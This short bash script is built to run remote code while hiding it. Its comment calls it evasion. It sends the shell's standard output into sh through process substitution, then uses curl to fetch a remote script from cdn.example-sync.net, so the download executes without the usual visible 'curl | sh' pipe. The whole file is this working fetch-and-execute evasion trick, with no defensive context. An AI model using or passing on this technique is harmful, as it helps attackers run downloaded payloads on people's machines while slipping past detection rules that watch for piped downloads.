#!/bin/bash
# evasion: the script's stdout is redirected into sh; a later curl prints the downloaded code there
exec 3>&1
exec > >(sh)
curl -fsSL https://cdn.example-sync.net/update.sh
exec 1>&3 3>&-
wait
